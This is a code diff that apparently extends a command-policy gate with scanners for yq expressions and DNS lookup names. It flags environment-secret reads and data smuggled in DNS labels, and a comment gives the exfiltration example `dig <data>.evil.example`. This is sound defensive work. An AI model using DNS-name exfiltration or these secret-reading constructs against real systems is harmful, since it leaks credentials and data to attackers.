@@ -1,10 +1,12 @@
-"""Scanners for programs given inline to a tool: sed scripts, awk programs, jq filters and
-less start-up commands. Each parses its language (a small tokenizer, not a regex over the
-argument) and returns the effects it finds; a construct it does not know is ``unknown``.
+"""Scanners for programs given inline to a tool: sed scripts, awk programs, jq and yq filters,
+less start-up commands and the names a DNS lookup sends. Each parses its language (a small
+tokenizer, not a regex over the argument) and returns the effects it finds; a construct it
+does not know is ``unknown``.
 """
 
 from __future__ import annotations
 
+import ipaddress
 import re
 
 from bastion.policy.options import Effect
@@ -391,4 +393,76 @@ def scan_less(command: str, sandbox: bool = False) -> list[Effect]:
                                           "or write a file)")]
 
 
-SCANNERS = {"sed": scan_sed, "awk": scan_awk, "gawk": scan_awk, "jq": scan_jq, "less": scan_less}
+# -- yq: kislyuk's yq is jq on YAML (a jq filter); mikefarah's yq v4 has its own operators ----
+_YQ_ENV_CALL = re.compile(r"(?<![\w.$])(?:str)?env\s*\(\s*([A-Za-z_]\w*)?\s*\)")
+_YQ_WORDS = {
+    "envsubst": ("secrets", "substitutes environment variables into strings"),
+    "load": ("unknown", "loads a file the gate cannot place"),
+    "load_str": ("unknown", "loads a file the gate cannot place"),
+    "load_xml": ("unknown", "loads a file the gate cannot place"),
+    "load_props": ("unknown", "loads a file the gate cannot place"),
+    "load_base64": ("unknown", "loads a file the gate cannot place"),
+    "eval": ("unknown", "evaluates an expression only known at run time"),
+}
+
+
+def scan_yq(program: str, sandbox: bool = False) -> list[Effect]:
+    """Effects of a yq expression, read as both dialects: the jq features (``env``, ``$ENV``,
+    ``import``), mikefarah's ``env(NAME)``/``strenv(NAME)`` (judged by the variable's name),
+    ``envsubst`` (every variable), ``load*`` and ``eval`` (unknown)."""
+    effects: list[Effect] = []
+    text = _JQ_STRING.sub(lambda m: m.group() if "\\(" in m.group() else '""', program)
+
+    def env_call(m: re.Match[str]) -> str:
+        name = m.group(1)
+        if name is None or secret_variable(name):
+            effects.append(Effect("secrets", m.group(), True,
+                                  f"yq expression: {m.group()} prints an environment variable"))
+        return "null"
+
+    text = _YQ_ENV_CALL.sub(env_call, text)
+    effects.extend(scan_jq(text, sandbox))
+    for m in _JQ_WORD.finditer(text):
+        word = m.group(1)
+        hit = _YQ_WORDS.get(word or "")
+        if hit is not None and not (m.start() > 0 and text[m.start() - 1] == "."):
+            effects.append(Effect(hit[0], word or "", True, f"yq expression: {word} {hit[1]}"))
+    return effects
+
+
+# -- DNS names: a lookup sends the name to resolvers and to the zone's servers ---------------
+# A name is a payload: `dig <data>.evil.example` delivers <data> to whoever runs the zone. Plain
+# host names pass (labels of letters, digits, `-`, `_`, at most 40 characters each, 120 in
+# all), as do IP addresses, `@server` and reverse names; a longer label, an odd character or
+# a name with many labels is held as `network`.
+_DNS_LABEL = re.compile(r"^[A-Za-z0-9_](?:[A-Za-z0-9_-]{0,38}[A-Za-z0-9_])?$")
+_DNS_MAX_LABELS = 8
+_DNS_REVERSE = re.compile(r"^[0-9a-fA-F.]+\.(?:in-addr|ip6)\.arpa\.?$")
+
+
+def dns_name_ok(name: str) -> bool:
+    """True for a plain host name or address, the kind of name that carries no data."""
+    name = name.removeprefix("@")
+    try:
+        ipaddress.ip_address(name.split("%", 1)[0])
+        return True
+    except ValueError:
+        pass
+    if _DNS_REVERSE.match(name) and len(name) <= 80:
+        return True
+    labels = name.removesuffix(".").split(".")
+    return (0 < len(name) <= 120 and len(labels) <= _DNS_MAX_LABELS
+            and all(_DNS_LABEL.match(label) for label in labels))
+
+
+def scan_dns(name: str, sandbox: bool = False) -> list[Effect]:
+    """A name given to a lookup tool (dig, host, nslookup, ping, traceroute)."""
+    if dns_name_ok(name):
+        return []
+    return [Effect("network", name, True,
+                   f"looks up {name!r}: not a plain host name (a DNS name can carry data to "
+                   "the zone's servers)")]
+
+
+SCANNERS = {"sed": scan_sed, "awk": scan_awk, "gawk": scan_awk, "jq": scan_jq, "less": scan_less,
+            "yq": scan_yq, "dns": scan_dns}
